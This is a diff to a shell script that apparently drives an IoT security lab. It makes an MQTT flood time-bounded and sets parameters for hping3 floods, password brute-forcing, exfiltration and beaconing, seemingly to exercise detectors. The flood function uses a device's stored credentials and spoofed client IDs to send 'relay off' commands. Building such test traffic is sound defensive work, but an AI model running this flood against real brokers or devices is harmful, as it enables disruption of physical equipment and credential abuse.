@@ -742,7 +742,10 @@ lab_link_flap() {
 : "${LAB_FLOOD_COUNT:=4000}"   # packets per hping3 flood (at 500 packets/s)
 : "${LAB_BRUTE_COUNT:=150}"    # wrong passwords tried
 : "${LAB_MQTT_FLOOD_TOPICS:=100}"
-: "${LAB_MQTT_FLOOD_REPEAT:=20}" # messages per topic
+: "${LAB_MQTT_FLOOD_REPEAT:=20}" # messages per connection
+# The flood lasts this long (bounded by LAB_ATTACK_MAX_SECS), whatever the machine's speed: a count of messages made
+# it last 13 s on a fast run and 45 s on a slow one, and the short one spanned too few windows to be judged.
+: "${LAB_MQTT_FLOOD_SECS:=30}"
 : "${LAB_EXFIL_BYTES:=3000000}"
 : "${LAB_EXFIL_RATE:=400k}"    # curl --limit-rate
 : "${LAB_BEACON_COUNT:=15}"     # polls; a beacon detector needs a dozen or so to trust a clock
@@ -820,11 +823,13 @@ lab_attack_mqtt_flood() {
   cred=$(awk '$1 == "plug-13" {print $2}' "$LAB_DIR/device-credentials")
   t0=$(_lab_now)
   _lab_run "$LAB_NS_ATK" "$LAB_ATTACK_MAX_SECS" bash -c '
-    gw=$1 port=$2 pw=$3 topics=$4 rep=$5
-    for ((i = 0; i < topics; i++)); do
-      mosquitto_pub -h "$gw" -p "$port" -u plug-13 -P "$pw" -i "plug-13-x$i" -q 0 -t "devices/plug-13/cmd/$i" \
+    gw=$1 port=$2 pw=$3 topics=$4 rep=$5 secs=$6
+    end=$((SECONDS + secs))
+    for ((i = 0; SECONDS < end; i++)); do
+      mosquitto_pub -h "$gw" -p "$port" -u plug-13 -P "$pw" -i "plug-13-x$i" -q 0 -t "devices/plug-13/cmd/$((i % topics))" \
         -m "{\"relay\":\"off\",\"pad\":\"$(printf "%0200d" 0)\"}" --repeat "$rep" --repeat-delay 0.005 || true
     done' _ "$LAB_GW_IP" "$LAB_MQTT_PORT" "$cred" "$LAB_MQTT_FLOOD_TOPICS" "$LAB_MQTT_FLOOD_REPEAT" \
+    "$LAB_MQTT_FLOOD_SECS" \
     >"$LAB_DIR/mqtt_flood.log" 2>&1 || _lab_log "mqtt_flood loop exited non-zero"
   t1=$(_lab_now)
   _lab_phase mqtt_flood mqtt_flood "$LAB_ATTACKER_IP" "$LAB_GW_IP" "$t0" "$t1"
